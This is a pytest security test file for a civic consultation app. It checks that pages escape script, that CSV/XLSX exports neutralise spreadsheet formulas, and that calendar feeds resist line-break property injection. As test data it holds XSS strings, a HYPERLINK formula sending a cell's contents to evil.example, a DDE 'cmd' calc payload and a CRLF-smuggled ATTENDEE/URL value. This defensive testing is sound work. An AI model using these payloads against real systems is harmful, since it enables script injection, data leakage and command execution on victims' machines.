"""Text that citizens and staff write is shown as text: in every page (script and markup inert),
in the CSV and XLSX exports (nothing a spreadsheet would run as a formula) and in the calendar
feed (no property smuggled in through a line break)."""

import csv
import io

import icalendar
import pytest
from openpyxl import load_workbook

from consult.extensions import db
from consult.hearings.models import Hearing
from consult.inputs.models import CitizenInput
from tests.conftest import login
from tests.inputs.conftest import input_form_data
from tests.security.conftest import ADMIN, ANONYMOUS, PLANNER, url_of

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
THAI_SCRIPT = f"อยากให้มีถนนลาดยาง{SCRIPT}ในหมู่บ้าน"
THAI_IMAGE = f"ศาลาประชาคม{IMAGE}หมู่ 3"
LATIN = f"Road repairs {SCRIPT} and {IMAGE}"
LIVE_MARKUP = ("<script>alert(1)", "<img src=x onerror")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+66 81 234 5678",
    "-1+1|cmd",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world(matrix_world):
    """The matrix world with script and markup in every free-text field that staff or citizens fill."""
    world = matrix_world
    hearing: Hearing = world["hearing"]
    hearing.title, hearing.venue = THAI_SCRIPT, THAI_IMAGE
    inputs: dict[int, CitizenInput] = world["inputs"]
    inputs[1].text, inputs[1].village = THAI_SCRIPT, THAI_IMAGE
    inputs[1].contact.name = LATIN
    inputs[2].text = LATIN
    for number, formula in zip((3, 4, 6, 9), FORMULAS):
        inputs[number].text = formula
    world["registration"].name = THAI_IMAGE
    revision = world["revision"]
    revision.title, revision.text_after, revision.rationale = THAI_SCRIPT, LATIN, THAI_IMAGE
    world["plan"].issues[0].title_th = THAI_IMAGE
    world["plan"].issues[1].title_th = "=1+1 การบริหารจัดการน้ำ"
    db.session.commit()
    return world


def _signed_in(app, role):
    client = app.test_client()
    if role != ANONYMOUS:
        assert login(client, role).status_code == 302
    return client


def test_pages_show_markup_as_text(app, hostile_world):
    """Every page the application serves, to a visitor and to an admin, with the hostile world."""
    escaped_on = set()
    for role in (ANONYMOUS, ADMIN):
        client = _signed_in(app, role)
        for rule in app.url_map.iter_rules():
            if "GET" not in rule.methods or rule.endpoint == "static":
                continue
            with client.get(url_of(app, rule, hostile_world["values"])) as response:
                mimetype, headers = response.mimetype, response.headers
                body = response.get_data(as_text=True) if mimetype == "text/html" else ""
            if mimetype == "application/json":
                # data, not a page: a browser told not to sniff never renders it as HTML
                assert headers["X-Content-Type-Options"] == "nosniff"
                continue
            if mimetype != "text/html":
                continue
            for live in LIVE_MARKUP:
                assert live not in body, f"{rule.endpoint} as {role} shows live markup {live!r}"
            if "&lt;script&gt;alert(1)" in body:
                escaped_on.add(rule.endpoint)
    # the payloads did reach the pages that show them, as text
    assert {
        "hearings.detail",
        "hearing_staff.manage",
        "inputs.receipt",
        "review.input_detail",
        "revisions.edit",
    } <= escaped_on


def _input_export_rows(client, cycle_id, kind):
    response = client.get(f"/review/cycles/{cycle_id}/export/inputs.{kind}")
    assert response.status_code == 200
    if kind == "csv":
        return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_hold_no_formulas(app, hostile_world, kind):
    client = _signed_in(app, PLANNER)
    rows = _input_export_rows(client, hostile_world["cycle"].id, kind)
    texts = [value for row in rows for value in row if isinstance(value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:
        assert f"'{formula}" in texts  # kept, word for word, behind the apostrophe
    assert THAI_SCRIPT in texts and LATIN in texts  # the file is data: markup stays as written


def test_aggregate_exports_hold_no_formulas(app, hostile_world):
    client = _signed_in(app, PLANNER)
    cycle_id = hostile_world["cycle"].id
    workbook = load_workbook(io.BytesIO(client.get(f"/review/cycles/{cycle_id}/export/aggregates.xlsx").data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert not [
        cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]
    assert any(isinstance(cell.value, str) and IMAGE in cell.value for cell in cells)  # the issue's title
    assert "'=1+1 การบริหารจัดการน้ำ" in [cell.value for cell in cells]


def test_calendar_feed_keeps_text_in_its_property(app, hostile_world):
    hearing = hostile_world["hearing"]
    hearing.title = "เวทีประชาคม\r\nATTENDEE:mailto:victim@example.org\r\nURL:http://evil.example"
    db.session.commit()
    client = _signed_in(app, ANONYMOUS)
    for url in (f"/hearings/{hearing.id}.ics", "/hearings.ics"):
        response = client.get(url)
        assert response.status_code == 200, response.get_data(as_text=True)[-3000:]
        calendar = icalendar.Calendar.from_ical(response.data)
        events = list(calendar.walk("VEVENT"))
        assert events
        for event in events:
            assert "ATTENDEE" not in event
            assert "evil.example" not in str(event.get("URL", ""))
        assert any("ATTENDEE:mailto:victim@example.org" in str(event["SUMMARY"]) for event in events)


def test_submitted_markup_comes_back_as_text(app, hostile_world, client):
    """Through the citizen's own form and the API, then on the receipt page."""
    url = f"/hearings/{hostile_world['hearing'].id}/input"
    response = client.post(
        url, data=input_form_data(client, url, text=THAI_SCRIPT + " " + IMAGE, village=THAI_IMAGE)
    )
    assert response.status_code in (302, 303)
    receipt_page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in receipt_page
    for live in LIVE_MARKUP:
        assert live not in receipt_page
    answered = client.post(
        f"/api/v1/hearings/{hostile_world['hearing'].id}/inputs",
        json={"text": LATIN + " อยากให้มีไฟส่องสว่าง", "sector": "citizen"},
    )
    assert answered.status_code == 201
    receipt = answered.get_json()["receipt"]
    page = client.get(f"/receipts/{receipt}").get_data(as_text=True)
    for live in LIVE_MARKUP:
        assert live not in page
